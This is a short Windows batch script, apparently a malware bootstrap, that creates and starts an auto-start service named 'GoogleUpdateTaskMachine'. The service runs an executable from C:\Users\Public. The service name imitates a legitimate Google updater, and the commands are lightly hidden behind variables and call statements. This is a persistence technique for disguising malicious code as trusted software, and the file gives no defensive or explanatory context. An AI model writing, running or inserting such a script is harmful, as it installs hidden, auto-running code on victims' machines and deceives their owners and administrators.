REM bootstrap 9448 v0
@echo off
set zwhg=sc create GoogleUpdateTaskMachine binPath= "cmd.exe /c C:\Users\Public\svc.exe" start= auto
call %zwhg%
@echo off
set dxge=sc start GoogleUpdateTaskMachine
call %dxge%
